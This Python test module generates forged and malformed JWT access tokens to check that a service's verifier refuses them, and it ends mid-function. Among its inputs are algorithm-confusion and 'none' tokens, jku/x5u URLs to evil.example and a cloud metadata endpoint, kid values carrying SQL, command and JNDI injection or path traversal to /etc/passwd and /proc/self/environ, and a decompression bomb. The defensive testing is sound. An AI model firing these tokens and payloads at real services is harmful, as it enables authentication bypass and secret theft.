"""Access tokens that nobody may take: forged, confused, mangled, made from one that is good.

Each family yields what an attacker could send. Where something other than the signature has to
refuse a token, the signature is right: it was made with the service's own key, so that nothing but
that one defence stands in the way.
"""

import base64
import hashlib
import hmac
import json
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from enum import Enum
from functools import cache, cached_property
from itertools import product
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256, SHA384, SHA512, HashAlgorithm
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    PublicFormat,
    load_pem_private_key,
)
from jwt.algorithms import RSAAlgorithm

from chalicelib.domain.tokens import LEEWAY_SECONDS, LONGEST_ACCESS_TOKEN_SECONDS
from chalicelib.services.tokens import LONGEST_TOKEN
from tests.samples import claims_of, decode, encode, header_of

INVALID, EXPIRED, REVOKED, MISSING = (
    "token_invalid",
    "token_expired",
    "token_revoked",
    "token_missing",
)


class Work(Enum):
    """The most that refusing a token may cost, besides looking at it."""

    NOTHING = "neither the store nor the key set is asked"
    KEYS = "the key set may be read, if that was not done just now"
    STORE = "the store is asked once"


@dataclass(frozen=True, slots=True)
class Attack:
    """What is sent, and what is to be said of it."""

    name: str
    text: str = field(repr=False)
    code: str = INVALID
    work: Work = Work.NOTHING


@dataclass(frozen=True)
class Target:
    """A service that issues tokens: one good token, and what an attacker could know, and more."""

    good: str
    pem: str
    """The private key that the good token was signed with."""
    foreign_pem: str
    """An attacker's own."""
    stranger: str
    """The `public_id` of another user."""
    strangers_session: str
    nobody: str
    """A `public_id` that no user has."""
    others: Mapping[str, str]
    """What else the service hands out, by what it is."""

    @cached_property
    def header(self) -> dict[str, Any]:
        return dict(header_of(self.good))

    @cached_property
    def claims(self) -> dict[str, Any]:
        return dict(claims_of(self.good))

    @property
    def now(self) -> int:
        """The good token was issued now."""
        return int(self.claims["iat"])

    @cached_property
    def key(self) -> RSAPrivateKey:
        return _rsa(self.pem)

    @cached_property
    def jwk(self) -> dict[str, Any]:
        return dict(RSAAlgorithm.to_jwk(self.key.public_key(), as_dict=True))

    def forge(
        self,
        header: Mapping[str, Any] | None = None,
        claims: Mapping[str, Any] | None = None,
        *,
        without: tuple[str, ...] = (),
        pem: str | None = None,
    ) -> str:
        """The good token with changes, and a signature that is right for them."""
        whole = [self.header | dict(header or {}), self.claims | dict(claims or {})]
        kept = [{name: part[name] for name in part if name not in without} for part in whole]
        return signed(kept[0], kept[1], pem or self.pem)


Family = Callable[[Target], Iterator[Attack]]
FAMILIES: dict[str, Family] = {}


def _family(made: Family) -> Family:
    FAMILIES[made.__name__.strip("_")] = made
    return made


# RFC 7518, sections 3.1, 4.1 and 5.1, and what was registered since.
_SIGNATURES = (
    *("HS256", "HS384", "HS512", "RS384", "RS512", "PS256", "PS384", "PS512"),
    *("ES256", "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "Ed448", "ESP256", "ESB256"),
    *("ML-DSA-44", "ML-DSA-65", "ML-DSA-87", "RS1", "HS1", "RS", "RS2560", "RS 256"),
)
_ENCRYPTIONS = (
    *("RSA1_5", "RSA-OAEP", "RSA-OAEP-256", "RSA-OAEP-384", "RSA-OAEP-512", "dir"),
    *("A128KW", "A192KW", "A256KW", "A128GCMKW", "A192GCMKW", "A256GCMKW", "ECDH-ES"),
    *("ECDH-ES+A128KW", "ECDH-ES+A192KW", "ECDH-ES+A256KW", "PBES2-HS256+A128KW"),
    *("PBES2-HS384+A192KW", "PBES2-HS512+A256KW", "A128CBC-HS256", "A192CBC-HS384"),
    *("A256CBC-HS512", "A128GCM", "A192GCM", "A256GCM"),
)
_HASHES: Mapping[str, HashAlgorithm] = {"256": SHA256(), "384": SHA384(), "512": SHA512()}


@_family
def _algorithms(target: Target) -> Iterator[Attack]:
    """Every other algorithm, by a signature that RS256 would call right."""
    for name in (*_SIGNATURES, *_ENCRYPTIONS):
        for spelling in dict.fromkeys((name, name.lower(), name.upper(), name.title())):
            yield Attack(f"alg {spelling}", target.forge({"alg": spelling}))
    near = (
        "rs256",
        "Rs256",
        "rS256",
        "RS256 ",
        " RS256",
        "RS256\0",
        "RS256\n",
        "RS-256",
        "\uff32\uff33256",
    )
    alike = ("R\u0405256", "RS\u0662\u0665\u0666", "RS256,none", "SHA256withRSA", "RS256" * 99)
    for spelling in (*near, *alike):
        yield Attack(f"alg {spelling!r}", target.forge({"alg": spelling}))
    for value in (None, True, 0, 256, 1.5, [], ["RS256"], {}, {"RS256": True}, ""):
        yield Attack(f"alg is {value!r}", target.forge({"alg": value}))
    yield Attack("no alg", target.forge(without=("alg",)))


@_family
def _none(target: Target) -> Iterator[Attack]:
    """`none` in every spelling, with no signature, the good one, and a wrong one."""
    spellings = ["".join(letters) for letters in product(*zip("none", "NONE", strict=True))]
    spellings += ["none ", " none", "none\0", "n\u03bfne", "non\u0435", "\uff4e\uff4f\uff4e\uff45"]
    spellings += ["null", "nil", "no", ""]
    _, payload, signature = target.good.split(".")
    for spelling in spellings:
        head = _json(target.header | {"alg": spelling})
        for what, last in (("no", ""), ("the good", signature), ("a wrong", "AAAA")):
            yield Attack(f"{spelling!r}, {what} signature", f"{head}.{payload}.{last}")
        yield Attack(f"{spelling!r}, two parts", f"{head}.{payload}")
        yield Attack(f"{spelling!r}, signed", target.forge({"alg": spelling}))


@_family
def _confusion(target: Target) -> Iterator[Attack]:
    """HMACs by all that is public: key confusion (RFC 8725, section 2.1)."""
    public = target.key.public_key()
    spki = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    pkcs1 = public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
    jwk = target.jwk
    published = {"kty": "RSA", "use": "sig", "alg": "RS256", **jwk, "kid": target.header["kid"]}
    secrets = {
        "SPKI, PEM": spki,
        "SPKI, PEM, without the last line feed": spki.rstrip(),
        "SPKI, PEM, with CRLF": spki.replace(b"\n", b"\r\n"),
        "SPKI, base64": b"".join(spki.splitlines()[1:-1]),
        "SPKI, DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "PKCS 1, PEM": pkcs1,
        "PKCS 1, PEM, without the last line feed": pkcs1.rstrip(),
        "PKCS 1, DER": public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "JWK": json.dumps(jwk).encode(),
        "JWK, compact": json.dumps(jwk, separators=(",", ":")).encode(),
        "JWK, as published": json.dumps(published, separators=(",", ":")).encode(),
        "JWKS": json.dumps({"keys": [published]}, separators=(",", ":")).encode(),
        "n": jwk["n"].encode(),
        "n, octets": decode(jwk["n"]),
        "e": jwk["e"].encode(),
        "kid": str(target.header["kid"]).encode(),
        "iss": str(target.claims["iss"]).encode(),
        "nothing": b"",
        "a NUL": b"\0",
        "secret": b"secret",
    }
    for (what, secret), bits in product(secrets.items(), ("256", "384", "512")):
        for alg in (f"HS{bits}", f"hs{bits}", "RS256"):
            text = f"{_json(target.header | {'alg': alg})}.{_json(target.claims)}"
            mac = hmac.digest(secret, text.encode(), f"sha{bits}")
            yield Attack(f"{alg} by HMAC {bits} with {what}", f"{text}.{encode(mac)}")


@_family
def _other_signatures(target: Target) -> Iterator[Attack]:
    """Signatures by the right key in another way, and by an attacker's keys."""
    foreign = _rsa(target.foreign_pem)
    text = f"{_json(target.header)}.{_json(target.claims)}"
    for (bits, algorithm), (whose, key) in product(
        _HASHES.items(), (("our", target.key), ("a foreign", foreign))
    ):
        pss = padding.PSS(padding.MGF1(algorithm), algorithm.digest_size)
        for alg, scheme in ((f"PS{bits}", pss), (f"RS{bits}", padding.PKCS1v15())):
            for said in dict.fromkeys(("RS256", alg)):
                if (whose, alg, said) == ("our", "RS256", "RS256"):
                    continue
                text = f"{_json(target.header | {'alg': said})}.{_json(target.claims)}"
                made = key.sign(text.encode(), scheme, algorithm)
                yield Attack(f"{alg} by {whose} key, said to be {said}", f"{text}.{encode(made)}")
    curve, edwards = ec.generate_private_key(ec.SECP256R1()), ed25519.Ed25519PrivateKey.generate()
    for said in ("ES256", "EdDSA", "RS256"):
        text = f"{_json(target.header | {'alg': said})}.{_json(target.claims)}"
        der = curve.sign(text.encode(), ec.ECDSA(SHA256()))
        raw = b"".join(number.to_bytes(32, "big") for number in decode_dss_signature(der))
        for what, made in (("DER", der), ("raw", raw), ("EdDSA", edwards.sign(text.encode()))):
            yield Attack(f"a curve's, {what}, said to be {said}", f"{text}.{encode(made)}")
    text = f"{_json(target.header | {'alg': 'ES256'})}.{_json(target.claims)}"
    yield Attack("ES256 of zeros (CVE-2022-21449)", f"{text}.{encode(bytes(64))}")


@_family
def _signatures(target: Target) -> Iterator[Attack]:
    """The good signature with one bit of any octet turned, cut, grown, or another token's."""
    text, _, last = target.good.rpartition(".")
    signature = decode(last)
    for place in range(len(signature)):
        turned = bytearray(signature)
        turned[place] ^= 1 << place % 8
        yield Attack(f"octet {place} turned", f"{text}.{encode(bytes(turned))}")
    modulus = target.key.public_key().public_numbers().n
    number = int.from_bytes(signature, "big")
    changed = {
        "none": b"",
        "one octet": signature[:1],
        "all but one octet": signature[:-1],
        "an octet more": signature + b"\0",
        "a zero before": b"\0" + signature,
        "twice": signature * 2,
        "zeros": bytes(len(signature)),
        "ones": b"\xff" * len(signature),
        "one": (1).to_bytes(len(signature), "big"),
        "the modulus": modulus.to_bytes(len(signature), "big"),
        "the modulus less it": (modulus - number).to_bytes(len(signature), "big"),
        "the modulus and it": (modulus + number).to_bytes(len(signature) + 1, "big"),
        "the digest": hashlib.sha256(text.encode()).digest(),
        "backwards": signature[::-1],
        "another token's": decode(target.forge(claims={"jti": "another"}).rpartition(".")[2]),
    }
    for what, octets in changed.items():
        yield Attack(f"signature: {what}", f"{text}.{encode(octets)}")


@_family
def _tampered(target: Target) -> Iterator[Attack]:
    """What an attacker would like to be, under the good token's signature or an attacker's."""
    head, _, last = target.good.split(".")
    for wish in (
        {"scope": "user admin"},
        {"sub": target.stranger},
        {"sub": target.nobody},
        {"sid": target.strangers_session},
        {"sub": target.stranger, "sid": target.strangers_session},
        {"exp": target.claims["exp"] + 1},
        {"ver": 2},
        {"admin": True},
        {},
    ):
        name = str(wish or "nothing")
        if wish:
            yield Attack(
                f"{name}, the old signature", f"{head}.{_json(target.claims | wish)}.{last}"
            )
        yield Attack(f"{name}, a foreign key", target.forge(claims=wish, pem=target.foreign_pem))


@_family
def _keys_brought_along(target: Target) -> Iterator[Attack]:
    """A header that names the key to verify with: `jwk`, `jku`, `x5u`, `x5c` (RFC 7515, 4.1)."""
    foreign = _rsa(target.foreign_pem)
    jwk = dict(RSAAlgorithm.to_jwk(foreign.public_key(), as_dict=True))
    certificate = _certificate(foreign)
    keys = json.dumps({"keys": [jwk]})
    urls = (
        *("https://evil.example/jwks.json", "http://169.254.169.254/latest/meta-data/"),
        *("file:///etc/passwd", "data:application/json," + keys, "//evil.example", "gopher://a:1/"),
        str(target.claims["iss"]) + "@evil.example/jwks.json",
        str(target.claims["iss"]) + "/.well-known/../redirect?to=https://evil.example",
    )
    members: list[tuple[str, Any]] = [
        ("jwk", jwk),
        ("jwk", jwk | {"kid": target.header["kid"], "alg": "RS256", "use": "sig"}),
        ("jwk", {"kty": "oct", "k": ""}),
        ("jwk", json.dumps(jwk)),
        *(("jku", url) for url in urls),
        *(("x5u", url) for url in urls),
        ("x5c", [certificate]),
        ("x5c", certificate),
        ("x5t", encode(hashlib.sha256(b"a").digest()[:20])),
        ("x5t#S256", encode(hashlib.sha256(b"a").digest())),
        ("jwks", {"keys": [jwk]}),
        ("key", target.foreign_pem[:100]),
    ]
    for name, value in members:
        header = {name: value}
        yield Attack(f"{name}, our kid", target.forge(header, pem=target.foreign_pem))
        yield Attack(
            f"{name}, no kid", target.forge(header, without=("kid",), pem=target.foreign_pem)
        )
        yield Attack(
            f"{name}, a foreign kid",
            target.forge({**header, "kid": "evil"}, pem=target.foreign_pem),
            work=Work.KEYS,
        )


@_family
def _key_ids(target: Target) -> Iterator[Attack]:
    """Key ids that mean something to a file system, a database or a resolver. The key is ours."""
    kid = str(target.header["kid"])
    for value in (
        *("", " ", "\0", "0", "-1", "null", "../../../../../../dev/null", "/dev/null", "..", "."),
        *("' OR '1'='1", "x' UNION SELECT 'AA==' --", "'; DROP TABLE keys; --", '{"$ne": null}'),
        *("https://evil.example/key.pem", "file:///proc/self/environ", "${jndi:ldap://evil/a}"),
        *("`id`", "$(id)", "|id", "%2e%2e%2f", "a" * 2_000, "\u00e9", "\u202e", "{{7*7}}"),
        *(kid + "\0", kid + "\n", kid + " ", " " + kid, kid + "=", kid[:-1], kid + "A", kid * 2),
        *("./" + kid, kid + "/", f"{kid}/../{kid}", f"key#{kid}", f"public-keys/{kid}", kid[::-1]),
        *(spelling for spelling in (kid.lower(), kid.upper()) if spelling != kid),
    ):
        yield Attack(f"kid {value[:40]!r}", target.forge({"kid": value}), work=Work.KEYS)
    for odd in (None, 0, 1, 1.5, True, False, [], [kid], {}, {kid: kid}, [[kid]]):
        yield Attack(f"kid is {odd!r}", target.forge({"kid": odd}))
    yield Attack("no kid", target.forge(without=("kid",)))
    yield Attack("kid under another name", target.forge({"KID": kid}, without=("kid",)))


@_family
def _headers(target: Target) -> Iterator[Attack]:
    """Critical extensions, unencoded and compressed payloads, and other types. The key is ours."""
    crits: tuple[Any, ...] = (["exp"], ["b64"], ["https://evil.example"], [], "exp", None, {}, [0])
    for crit in crits:
        yield Attack(f"crit {crit!r}", target.forge({"crit": crit, "exp": 1}))
    plain = json.dumps(target.claims)
    for header in ({"b64": False}, {"b64": False, "crit": ["b64"]}):
        yield Attack(f"{header}, encoded", target.forge(header))
        head = _json(target.header | header)
        made = target.key.sign(f"{head}.{plain}".encode(), padding.PKCS1v15(), SHA256())
        yield Attack(f"{header}, unencoded", f"{head}.{plain}.{encode(made)}")
        yield Attack(f"{header}, detached", f"{head}..{encode(made)}")
    deflate = zlib.compressobj(wbits=-15)
    packed = deflate.compress(plain.encode()) + deflate.flush()
    yield Attack("zip DEF", signed(target.header | {"zip": "DEF"}, packed, target.pem))
    bomb = zlib.compressobj(9, wbits=-15)
    large = bomb.compress(bytes(1_000_000)) + bomb.flush()
    yield Attack("zip DEF, a bomb", signed(target.header | {"zip": "DEF"}, large, target.pem))
    for typ in (
        *("JWT", "jwt", "AT+JWT", "at+JWT", "at+jwt ", " at+jwt", "application/at+jwt", "", "JOSE"),
        *("at+jwt\0", "at jwt", "at%2Bjwt", "id+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt"),
        *(None, 0, True, [], ["at+jwt"], {"typ": "at+jwt"}),
    ):
        yield Attack(f"typ {typ!r}", target.forge({"typ": typ}))
    yield Attack("no typ", target.forge(without=("typ",)))
    yield Attack("typ under another name", target.forge({"Typ": "at+jwt"}, without=("typ",)))
    nested = signed(target.header | {"cty": "JWT"}, target.good.encode(), target.pem)
    yield Attack("cty JWT, nested", nested)
    for what, header_octets in (
        ("UTF-16", json.dumps(target.header).encode("utf-16")),
        ("UTF-32", json.dumps(target.header).encode("utf-32")),
        ("a byte order mark", b"\xef\xbb\xbf" + json.dumps(target.header).encode()),
        ("Latin-1", json.dumps(target.header)[:-1].encode() + b', "x": "\xe9"}'),
        ("an array", json.dumps([target.header]).encode()),
        ("a string", json.dumps(json.dumps(target.header)).encode()),
        ("a number", b"1"),
        ("null", b"null"),
        ("nothing", b""),
        ("two objects", json.dumps(target.header).encode() * 2),
        ("a comment", b"/**/" + json.dumps(target.header).encode()),
        ("single quotes", json.dumps(target.header).replace('"', "'").encode()),
        ("half", json.dumps(target.header).encode()[:-1]),
    ):
        yield Attack(f"header in {what}", signed(header_octets, target.claims, target.pem))


@_family
def _serialisations(target: Target) -> Iterator[Attack]:
    """Other forms that a JOSE library may know, and parts too few or too many."""
    head, payload, last = target.good.split(".")
    one = {"protected": head, "signature": last}
    yield Attack("JWS JSON, flattened", json.dumps({"payload": payload, **one}))
    yield Attack("JWS JSON, general", json.dumps({"payload": payload, "signatures": [one]}))
    yield Attack("JWS JSON, no spaces", json.dumps({"payload": payload, **one}).replace(" ", ""))
    sealed = _json({"alg": "RSA-OAEP", "enc": "A128GCM", "cty": "JWT", "kid": target.header["kid"]})
    content_key = target.key.public_key().encrypt(
        bytes(16), padding.OAEP(padding.MGF1(SHA256()), SHA256(), None)
    )
    jwe = ".".join((sealed, encode(content_key), encode(bytes(12)), payload, encode(bytes(16))))
    yield Attack("JWE", jwe)
    yield Attack("JWE, dir", f"{_json({'alg': 'dir', 'enc': 'A128GCM'})}..AAAA.AAAA.AAAA")
    for name, text in {
        "detached": f"{head}..{last}",
        "no header": f".{payload}.{last}",
        "no parts": "..",
        "two parts": f"{head}.{payload}",
        "one part": payload,
        "four parts": f"{target.good}.{last}",
        "five parts": f"{target.good}.{last}.{last}",
        "a dot before": f".{target.good}",
        "a dot behind": f"{target.good}.",
        "two dots": f"{head}..{payload}.{last}",
        "twice": target.good * 2,
        "two with a comma": f"{target.good},{target.good}",
        "two with a blank": f"{target.good} {target.good}",
        "in quotes": f'"{target.good}"',
        "in base64": encode(target.good.encode()),
        "the wrong way round": ".".join(reversed((head, payload, last))),
        "header as payload": f"{head}.{head}.{last}",
        "other separators": target.good.replace(".", ","),
        "full-width dots": target.good.replace(".", "\uff0e"),
        "percent-encoded dots": target.good.replace(".", "%2E"),
    }.items():
        yield Attack(name, text)


@_family
def _spellings(target: Target) -> Iterator[Attack]:
    """Other spellings of the same octets: what a lenient decoder takes for the good token."""
    parts = target.good.split(".")
    for place, part in enumerate(parts):
        for name, other in _respelt(part):
            text = ".".join((*parts[:place], other, *parts[place + 1 :]))
            # Blanks around a header's value are none of it (RFC 9110, section 5.5).
            if text.strip(" \t") != target.good:
                yield Attack(f"part {place}: {name}", text)
    for name, end in {
        "A": "A", "!": "!", "NUL": "\0", "line feed": "\n", "CRLF": "\r\n", "form feed": "\f",
        "no-break space": "\xa0", "ideographic space": "\u3000", "zero-width space": "\u200b",
        "byte order mark": "\ufeff", "unit separator": "\x1f", "next line": "\x85",
        "colon": ":", "semicolon": ";", "slash": "/", "hash": "#a", "query": "?a=b", "=": "=",
    }.items():  # fmt: skip
        yield Attack(f"{name} behind", target.good + end)
        yield Attack(f"{name} before", end + target.good)


def _respelt(part: str) -> Iterator[tuple[str, str]]:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    middle = len(part) // 2
    for pad in ("=", "==", "==="):
        yield f"padded {pad}", part + pad
        yield f"padded inside {pad}", part[:4] + pad + part[4:]
    unused = {2: 4, 3: 2}.get(len(part) % 4, 0)
    for bits in range(1, 1 << unused):
        last = alphabet.index(part[-1])
        yield f"last bits {bits}", part[:-1] + alphabet[last ^ bits]
    for name, blank in {
        "blank": " ", "tab": "\t", "line feed": "\n", "CRLF": "\r\n", "NUL": "\0", "dash": "\u2013",
        "zero-width joiner": "\u200d", "soft hyphen": "\xad", "star": "*", "percent": "%",
        "surrogate": "\ud800", "tag": "\U000e0041",
    }.items():  # fmt: skip
        for where, at in (("first", 0), ("inside", middle), ("last", len(part))):
            yield f"{name} {where}", part[:at] + blank + part[at:]
    plain = part.replace("-", "+").replace("_", "/")
    if plain != part:
        yield "the other alphabet", plain
        yield "the other alphabet, quoted", part.replace("-", "%2B").replace("_", "%2F")
    for name, first in {"full-width": 0xFF21 - 65, "mathematical": 0x1D400 - 65}.items():
        capital = next(at for at, letter in enumerate(part) if letter.isupper())
        other = chr(first + ord(part[capital]))
        yield f"a {name} letter", part[:capital] + other + part[capital + 1 :]
    for name, zero in {"Arabic": 0x660, "full-width": 0xFF10, "Devanagari": 0x966}.items():
        digit = next(at for at, letter in enumerate(part) if letter in "0123456789")
        other = chr(zero + int(part[digit]))
        yield f"a digit in {name}", part[:digit] + other + part[digit + 1 :]
    yield "the other case", part.swapcase()
    yield "in base64 twice", encode(part.encode())
    yield "quoted", f'"{part}"'


@_family
def _sizes(target: Target) -> Iterator[Attack]:
    """Huge and deeply nested ones. What fits is signed with our key."""
    for name, text in {
        "a million letters": "A" * 1_000_000,
        "a million dots": "." * 1_000_000,
        "a million blanks inside": f"a{' ' * 1_000_000}b",
        "three huge parts": ".".join(["A" * 400_000] * 3),
        "a huge payload": f"{target.header['kid']}.{'e30' * 300_000}.AAAA",
        "deep brackets": "[" * 1_000_000,
        "a huge signature": target.good + "A" * 1_000_000,
    }.items():
        yield Attack(name, text)
    yield Attack("a claim too long", target.forge(claims={"x": "a" * LONGEST_TOKEN}))
    room = LONGEST_TOKEN - len(target.forge(claims={"x": ""}))
    yield Attack("a little too long", target.forge(claims={"x": "a" * (room * 3 // 4 + 3)}))
    plain = json.dumps(target.claims)[:-1]
    for levels in (1_000, 100_000):
        for what, first, end in (("arrays", "[", "]"), ("objects", '{"a":', "}")):
            value = first * levels + "1" + end * levels
            deep = f'{plain}, "x": {value}}}'.encode()
            yield Attack(f"{levels} {what} in the claims", signed(target.header, deep, target.pem))
            head = f'{json.dumps(target.header)[:-1]}, "x": {value}}}'.encode()
            yield Attack(f"{levels} {what} in the header", signed(head, target.claims, target.pem))
    digits = f'{plain}, "exp": {"9" * 2_000}}}'.encode()
    yield Attack("two thousand digits", signed(target.header, digits, target.pem))
    many = {f"claim-{number}": number for number in range(1_000)}
    yield Attack("a thousand claims", target.forge(claims=many))


@_family
def _duplicates(target: Target) -> Iterator[Attack]:
    """Members that are there twice: parsers take the first or the last. The key is ours."""
    for name, other in {"alg": "none", "typ": "JWT", "kid": "evil"}.items():
        value = target.header[name]
        for what, pair in (
            ("first", (other, value)),
            ("last", (value, other)),
            ("same", (value,) * 2),
        ):
            octets = _twice(target.header, name, *pair)
            yield Attack(f"{name}, {what}", signed(octets, target.claims, target.pem))
    wishes: dict[str, Any] = {
        "iss": "https://evil.example",
        "aud": "another",
        "sub": target.stranger,
        "exp": target.now + 9_999,
        "sid": target.strangers_session,
        "ver": 99,
        "scope": "user admin",
    }
    for name, other in wishes.items():
        value = target.claims[name]
        for what, pair in (
            ("first", (other, value)),
            ("last", (value, other)),
            ("same", (value,) * 2),
        ):
            octets = _twice(target.claims, name, *pair)
            yield Attack(f"{name}, {what}", signed(target.header, octets, target.pem))
    escaped = _twice(target.claims, "sub", target.claims["sub"], target.stranger)
    # JSON's escapes name a member as well as its letters do.
    hidden = escaped.replace(b'"sub"', b'"\\u0073ub"', 1)
    yield Attack("sub, spelt in two ways", signed(target.header, hidden, target.pem))
    inner = json.dumps(target.claims)[:-1] + ', "x": {"a": 1, "a": 2}}'
    yield Attack("one inside another", signed(target.header, inner.encode(), target.pem))


@_family
def _times(target: Target) -> Iterator[Attack]:
    """Times at every edge, to the second, and what is none. The key is ours."""
    now, leeway = target.now, LEEWAY_SECONDS
    for seconds in (leeway, leeway + 1, 60, 9_999, now, now + 1, 2 * now):
        claims = {"iat": min(now - 900, now - seconds), "exp": now - seconds}
        yield Attack(f"expired {seconds} s ago", target.forge(claims=claims), EXPIRED)
    for name in ("iat", "nbf"):
        for seconds in (leeway + 1, 60, 9_999, 2**31, 2**63, 10**30):
            claims = {name: now + seconds, "exp": now + seconds + 900}
            yield Attack(f"{name} in {seconds} s", target.forge(claims=claims))
    for beyond in (1, 9_999, 2**31, 2**63, 2**64, 10**18, 10**300):
        claims = {"exp": now + LONGEST_ACCESS_TOKEN_SECONDS + beyond}
        yield Attack(f"lives {beyond} s longer than any", target.forge(claims=claims))
    yield Attack("very old and never expires", target.forge(claims={"iat": 0}))
    for name in ("iat", "exp", "nbf"):
        good = target.claims.get(name, now)
        for value in (
            *(float(good), good + 0.5, -1.5, 1e300, str(good), f" {good}", "", "soon", True),
            *(False, [], [good], {}, {"t": good}, "2026-01-02T03:04:05Z", hex(good)),
        ):
            yield Attack(f"{name} is {value!r}", target.forge(claims={name: value}))
        for literal in ("NaN", "Infinity", "-Infinity", "1e999", "-1e999", "null", f"{good}.0"):
            text = json.dumps(target.claims | {name: "HERE"}).replace('"HERE"', literal)
            yield Attack(f"{name} is {literal}", signed(target.header, text.encode(), target.pem))
        text = json.dumps(target.claims | {name: "HERE"}).replace('"HERE"', f"0{good}")
        yield Attack(f"{name} is octal", signed(target.header, text.encode(), target.pem))


@_family
def _claims(target: Target) -> Iterator[Attack]:
    """Claims that are missing, of another type, or somebody else's. The key is ours."""
    for name, value in target.claims.items():
        yield Attack(f"no {name}", target.forge(without=(name,)))
        yield Attack(
            f"{name} in capitals",
            target.forge(claims={name.upper(): value}, without=(name,)),
        )
        for odd in (None, True, 1.5, [], [value], {}, {"a": value}, [[value]]):
            yield Attack(f"{name} is {odd!r}"[:60], target.forge(claims={name: odd}))
        wrong: Any = 1 if isinstance(value, str) else str(value)
        yield Attack(f"{name} is {wrong!r}", target.forge(claims={name: wrong}))
    issuer, audience = str(target.claims["iss"]), str(target.claims["aud"])
    for other in (
        *(issuer + "/", issuer.upper(), issuer + ".evil.example", issuer + " ", " " + issuer),
        *(issuer[:-1], issuer + "\0", issuer + "/prod", issuer.replace("http", "https", 1), ""),
        "https://evil.example",
    ):
        yield Attack(f"iss {other!r}", target.forge(claims={"iss": other}))
    for other in (audience + "2", audience.upper(), audience + " ", "", audience + "\0", "*"):
        yield Attack(f"aud {other!r}", target.forge(claims={"aud": other}))
    yield Attack("two audiences", target.forge(claims={"aud": [audience, "another"]}))
    for sub in ("", "me", "*", target.claims["sub"].upper(), "user#" + target.claims["sub"], "\0",
                target.claims["sub"] + "\n", "a" * 2_000, target.claims["sub"][:-1]):  # fmt: skip
        yield Attack(f"sub {sub[:45]!r}", target.forge(claims={"sub": sub}))
    for sid in ("", "key#" + target.header["kid"], target.claims["sid"].upper(), "a" * 2_000, "\0",
                target.claims["sid"] + "\n", "{" + target.claims["sid"] + "}"):  # fmt: skip
        yield Attack(f"sid {sid[:45]!r}", target.forge(claims={"sid": sid}))
    unknown = target.forge(claims={"sub": target.nobody})
    yield Attack("nobody's", unknown, INVALID, Work.STORE)
    newer = target.forge(claims={"ver": target.claims["ver"] + 1})
    yield Attack("a version to come", newer, INVALID, Work.STORE)
    for version in (target.claims["ver"] - 1, -1, -(2**63)):
        older = target.forge(claims={"ver": version})
        yield Attack(f"version {version}", older, REVOKED, Work.STORE)
    for what, octets in {
        "an array": json.dumps([target.claims]).encode(),
        "a string": json.dumps(json.dumps(target.claims)).encode(),
        "UTF-16": json.dumps(target.claims).encode("utf-16"),
        "a byte order mark": b"\xef\xbb\xbf" + json.dumps(target.claims).encode(),
        "not UTF-8": json.dumps(target.claims).encode() + b"\xff",
        "half": json.dumps(target.claims).encode()[:-1],
        "two objects": json.dumps(target.claims).encode() * 2,
        "null": b"null",
        "nothing": b"",
        "an empty object": b"{}",
    }.items():
        yield Attack(f"claims in {what}", signed(target.header, octets, target.pem))


@_family
def _other_kinds(target: Target) -> Iterator[Attack]:
    """What is handed out for something else, and tokens of other kinds by our own key."""
    for name, text in target.others.items():
        yield Attack(name, text)
    claims = {name: target.claims[name] for name in ("iss", "aud", "sub", "iat", "exp")}
    for typ in ("JWT", None):
        header = target.header | {"typ": typ}
        yield Attack(f"an ID token, typ {typ}", signed(header, claims, target.pem))
    yield Attack("an ID token that says at+jwt", signed(target.header, claims, target.pem))
    header = target.header | {"typ": "logout+jwt"}
    logout = target.claims | {"events": ["http://schemas.openid.net/event/backchannel-logout"]}
    yield Attack("a logout token", signed(header, logout, target.pem))


@_family
def _carriers(target: Target) -> Iterator[Attack]:
    """The good token in a header that the contract does not know."""
    for before in (
        *(
            "Basic ",
            "Token ",
            "JWT ",
            "DPoP ",
            "Digest ",
            "Bearer:",
            "Bearer=",
            "Bearer,",
            "Bearer\t",
        ),
        *(
            "Bearer Bearer ",
            "Bearer: ",
            "Bearer token=",
            "Bearer\xa0",
            "\uff22earer ",
            "Bearer\n",
            "B ",
        ),
        *('Bearer "', "Bearer <", "bearer\u3000", "Bearerr ", "OAuth ", "access_token="),
    ):
        yield Attack(f"{before!r} before it", before + target.good)
    for end in (" Bearer", " a", ", Basic YTpi", f" {target.good}", f", Bearer {target.good}"):
        yield Attack(f"{end[:20]!r} behind it", f"Bearer {target.good}{end}")
    for nothing in ("Bearer", "Bearer ", "bearer   ", "BEARER\t", " ", "\t", "   "):
        yield Attack(f"{nothing!r} alone", nothing, MISSING)


def corpus(target: Target) -> dict[str, list[Attack]]:
    """Every attack, by family."""
    return {name: list(made(target)) for name, made in FAMILIES.items()}


def signed(header: bytes | Mapping[str, Any], claims: bytes | Mapping[str, Any], pem: str) -> str:
    """A token with any header and any claims, and an RS256 signature that is right for them."""
    parts = [
        encode(part if isinstance(part, bytes) else json.dumps(part).encode())
        for part in (header, claims)
    ]
    made = _rsa(pem).sign(".".join(parts).encode(), padding.PKCS1v15(), SHA256())
    return ".".join((*parts, encode(made)))


# Reading a private key takes a hundred times as long as using it.
@cache
def _rsa(pem: str) -> RSAPrivateKey:
    key = load_pem_private_key(pem.encode(), None)
    assert isinstance(key, RSAPrivateKey)
    return key


def _json(members: Mapping[str, Any]) -> str:
    return encode(json.dumps(members).encode())


def _twice(members: Mapping[str, Any], name: str, first: object, last: object) -> bytes:
    """JSON with one member twice: at the beginning and at the end."""
    rest = {other: value for other, value in members.items() if other != name}
    inside = json.dumps(rest)[1:-1]
    key = json.dumps(name)
    return f"{{{key}: {json.dumps(first)}, {inside}, {key}: {json.dumps(last)}}}".encode()


def _certificate(key: RSAPrivateKey) -> str:
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "evil.example")])
